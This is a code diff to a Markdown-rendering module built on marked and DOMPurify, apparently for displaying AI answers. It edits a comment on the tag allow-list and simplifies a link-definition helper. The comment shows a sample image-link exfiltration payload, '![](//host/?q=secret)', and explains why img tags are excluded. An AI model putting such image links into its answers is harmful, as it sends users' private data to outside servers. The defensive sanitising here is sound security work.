@@ -10,7 +10,7 @@ import DOMPurify from "../../vendor/dompurify.js";
 const ENTITIES = { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" };
 const escape = (text) => text.replace(/[&<>"']/g, (character) => ENTITIES[character]);
 
-// No img: an address in an answer would send what it contains to a foreign server (![](https://host/?q=secret)).
+// No img: an address in an answer would send what it contains to a foreign server (![](//host/?q=secret)).
 const CONFIGURATION = {
   ALLOWED_TAGS: [
     ...["p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code", "span", "a"],
@@ -79,13 +79,11 @@ const renderer = {
 
 const marked = new Marked({ gfm: true, renderer });
 
-/** Split Markdown into block tokens. `links` has the link definitions of earlier blocks, and gets those of this text. */
+/** Split Markdown into block tokens. `links` has the link definitions of earlier blocks, by their names. */
 export function blocksOf(markdown, links = {}) {
   const lexer = new Lexer(marked.defaults);
   Object.assign(lexer.tokens.links, links);
-  const tokens = lexer.lex(markdown);
-  Object.assign(links, tokens.links);
-  return tokens;
+  return lexer.lex(markdown);
 }
 
 /**
